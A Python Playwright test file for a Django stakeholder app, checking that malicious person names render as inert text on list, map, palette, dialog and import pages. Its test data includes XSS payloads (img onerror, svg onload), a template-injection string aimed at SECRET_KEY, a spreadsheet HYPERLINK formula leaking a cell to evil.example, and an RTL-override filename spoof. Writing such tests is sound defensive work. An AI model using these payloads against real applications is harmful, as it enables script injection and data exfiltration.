"""People whose names are HTML, formulas, right-to-left, joined emoji or without end: every page shows them as text."""

import re

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from stakeholders.assessments import record_assessment
from stakeholders.models import Relationship, Stakeholder
from stakeholders.relationships import add_relationship
from stakeholders.touchpoints import log_touchpoint
from tests.e2e.stories import received

IMAGE = "<img src=x onerror=alert(1)>"
CLOSING = "</script></title></svg><svg onload=alert(2)>"
TEMPLATE = "{{ settings.SECRET_KEY }}${alert(3)}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RIGHT_TO_LEFT = "מרים בן־דוד (مريم)"
TURNED = "\u202egnp.exe"
EMOJI = "👩🏽‍🚀👨‍👩‍👧‍👦 Ada 🏳️‍🌈"
LONG = "W" * 300
NAMES = [IMAGE, CLOSING, TEMPLATE, FORMULA, RIGHT_TO_LEFT, TURNED, EMOJI, LONG]


@pytest.fixture
def people(inside, workspace, leader, member, add_person) -> dict[str, Stakeholder]:
    """Every text about them is as bad as the name, and they stand one on another."""
    with inside():
        made = {
            name: add_person(
                name, department=name[:120], job_title=name, segment="champion", influence=4, interest=4, position=1,
                engagement_now="neutral", engagement_desired="leading", why=name, notes=name, tags=[name],
                attributes={name: name}, owner=leader, assessed_on=timezone.localdate() - timezone.timedelta(days=90),
            )
            for name in NAMES
        }  # fmt: skip
        first = made[IMAGE]
        for name, person in made.items():
            record_assessment(person, author=leader, why=name, interest=5)
            log_touchpoint(person, author=leader, kind="call", summary=name)
            if person != first:
                add_relationship(person, target=first, kind=Relationship.Kind.REPORTS_TO, label=name)
        type(leader).objects.filter(pk=leader.pk).update(name=IMAGE)
        type(member).objects.filter(pk=member.pk).update(name=LONG[:150])
        type(workspace).objects.filter(pk=workspace.pk).update(name=LONG[:100])
    return made


@pytest.fixture
def watched(open_page, troubles):
    """A page in which any dialog of the browser is trouble."""

    def opened(path: str, **options) -> Page:
        page = open_page("about:blank", **options)

        def refuse(dialog) -> None:
            troubles.append(f"a dialog opened: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", refuse)
        page.goto(path)
        if page.locator("[data-map]").count():
            page.wait_for_selector("[data-map].is-live")
        return page

    return opened


def is_text(page: Page) -> None:
    """Nothing of a name became an element, and nothing runs over the edge."""
    assert page.locator('img[src="x"], [onerror], [onload]').count() == 0
    wide, seen = page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    assert wide <= seen, f"{page.url} is {wide} px wide in a window of {seen}"


def shows(page: Page, *names: str) -> None:
    text = page.locator("body").evaluate("body => body.textContent")
    assert [name for name in names if name not in text] == []
    is_text(page)


@pytest.mark.parametrize("width", [1440, 390])
@pytest.mark.parametrize(
    "path",
    [
        "stakeholders/", "stakeholders/?sort=-assessed", "map/", "map/engagement/", "map/organisation/",
        "map/?since=none", "audit/", "members/",
    ],
)  # fmt: skip
def test_on_a_page_about_many(watched, people, path: str, width: int) -> None:
    page = watched(f"/w/northwind/{path}", width=width)
    if path == "audit/":
        # Its filters and acts; the trail of a person is opened by its own link.
        shows(page, IMAGE)
    elif path == "members/":
        shows(page, IMAGE, LONG[:150])
    else:
        shows(page, *NAMES)


@pytest.mark.parametrize("width", [1440, 390])
def test_on_the_pages_of_one(watched, people, width: int) -> None:
    page = watched("about:blank", width=width)
    for name, person in people.items():
        page.goto(f"/w/northwind/stakeholders/{person.pk}/")
        shows(page, name)
        assert name in page.get_by_role("heading", level=1).evaluate("heading => heading.textContent")
        assert page.title() == f"{name} · Coalition"
    for end in ("edit/", "assess/", "assess/?quick=1", "touchpoints/new/", "ties/new/", "export/", "erase/"):
        for name in (IMAGE, LONG):
            page.goto(f"/w/northwind/stakeholders/{people[name].pk}/{end}")
            is_text(page)
    page.goto(f"/w/northwind/stakeholders/{people[FORMULA].pk}/edit/")
    expect(page.locator('input[name="name"]')).to_have_value(FORMULA)


@pytest.mark.parametrize("width", [1440, 390])
def test_on_the_map(watched, people, width: int) -> None:
    page = watched("/w/northwind/map/", width=width)
    expect(page.locator(".map-mark")).to_have_count(len(NAMES))
    tip = page.get_by_role("tooltip")
    for name, person in people.items():
        mark = page.locator(f'.map-mark[data-id="{person.pk}"]')
        assert mark.get_attribute("aria-label").startswith(f"{name}, champion")
        mark.focus()
        expect(tip).to_be_visible()
        assert name in tip.evaluate("tip => tip.textContent")
        box = tip.bounding_box()
        assert box["x"] >= 0, name
        assert box["x"] + box["width"] <= width, name
        is_text(page)
    page.goto(f"/w/northwind/map/?who={people[IMAGE].pk}")
    expect(page.locator(".map-card").get_by_role("heading", name=IMAGE)).to_be_visible()
    is_text(page)
    page.goto(f"/w/northwind/map/?who={people[LONG].pk}")
    expect(page.locator(".map-card").get_by_role("heading", name=LONG)).to_be_visible()
    is_text(page)


def test_in_the_question_a_move_asks(watched, people) -> None:
    page = watched("/w/northwind/map/", width=390)
    for name in (IMAGE, LONG):
        page.locator(f'.map-mark[data-id="{people[name].pk}"]').focus()
        for key in ("Enter", "ArrowDown", "Enter"):
            page.keyboard.press(key)
        dialog = page.locator("dialog[data-map-move]")
        expect(dialog.get_by_role("heading")).to_have_text(f"{name}: influence 3, interest 5")
        expect(page.get_by_label("Why did this move?")).to_be_visible()
        assert dialog.evaluate("dialog => dialog.scrollWidth <= dialog.clientWidth"), name
        is_text(page)
        page.keyboard.press("Escape")
        expect(dialog).to_be_hidden()


@pytest.mark.parametrize("width", [1440, 390])
def test_in_the_presentation_nobody_is_named(watched, people, width: int) -> None:
    page = watched("/w/northwind/map/?present=1", width=width)
    expect(page.locator(".map-mark")).to_have_count(len(NAMES))
    html = page.content()
    assert [name for name in (*NAMES, "onerror", "evil.example", "W" * 20) if name in html] == []
    is_text(page)


@pytest.mark.parametrize("width", [1440, 390])
def test_in_the_palette(watched, people, width: int) -> None:
    page = watched("/w/northwind/stakeholders/", width=width)
    page.keyboard.press("Control+k")
    field = page.get_by_role("combobox", name="Find anyone or any page")
    for name, part in (
        (IMAGE, "<img src"),
        (FORMULA, "=HYPER"),
        (RIGHT_TO_LEFT, "מרים"),
        (EMOJI, "👩🏽‍🚀"),
        (LONG, "WWWW"),
    ):
        field.fill(part)
        chosen = page.locator('#palette [aria-selected="true"]')
        expect(chosen).to_contain_text(name)
        box = page.locator("#palette").bounding_box()
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= width
        is_text(page)


def test_in_questions_and_messages(watched, people) -> None:
    page = watched(f"/w/northwind/stakeholders/{people[LONG].pk}/", width=390)
    page.get_by_role("button", name=f"Remove the tie to {IMAGE}").click()
    question = page.locator("#confirm")
    expect(question.locator("#confirm-text")).to_have_text(
        f"The tie between {LONG} and {IMAGE} will be removed.", use_inner_text=False
    )
    is_text(page)
    question.get_by_role("button", name=re.compile("Cancel")).click()
    for name in (IMAGE, LONG):
        page.goto(f"/w/northwind/stakeholders/{people[name].pk}/assess/?quick=1")
        page.get_by_label("Why?").fill(name)
        page.get_by_role("button", name=re.compile("Store")).click()
        toasts = page.locator("#toasts")
        expect(toasts).to_contain_text(f"The assessment of {name} is stored.")
        box = toasts.bounding_box()
        assert box["x"] + box["width"] <= 390
        is_text(page)


@pytest.mark.parametrize("width", [1440, 390])
def test_in_the_preview_of_an_import(watched, inside, workspace, leader, width: int) -> None:
    with inside():
        batch = received(workspace, leader, f"{IMAGE}.xlsx", [(name, name, name[:120], None, None) for name in NAMES])
        assert batch.plan["counts"]["people"]["create"] == len(NAMES), batch.plan
    page = watched(f"/w/northwind/imports/{batch.pk}/", width=width)
    shows(page, *NAMES, f"{IMAGE}.xlsx")
    page.goto("/w/northwind/imports/")
    shows(page, f"{IMAGE}.xlsx")
    page.goto(f"/w/northwind/imports/{batch.pk}/")
    page.get_by_role("button", name="Import it").click()
    expect(page.locator("#toasts")).to_contain_text("Imported, all of it.")
    is_text(page)
    with inside():
        assert sorted(Stakeholder.objects.values_list("name", flat=True)) == sorted(NAMES)
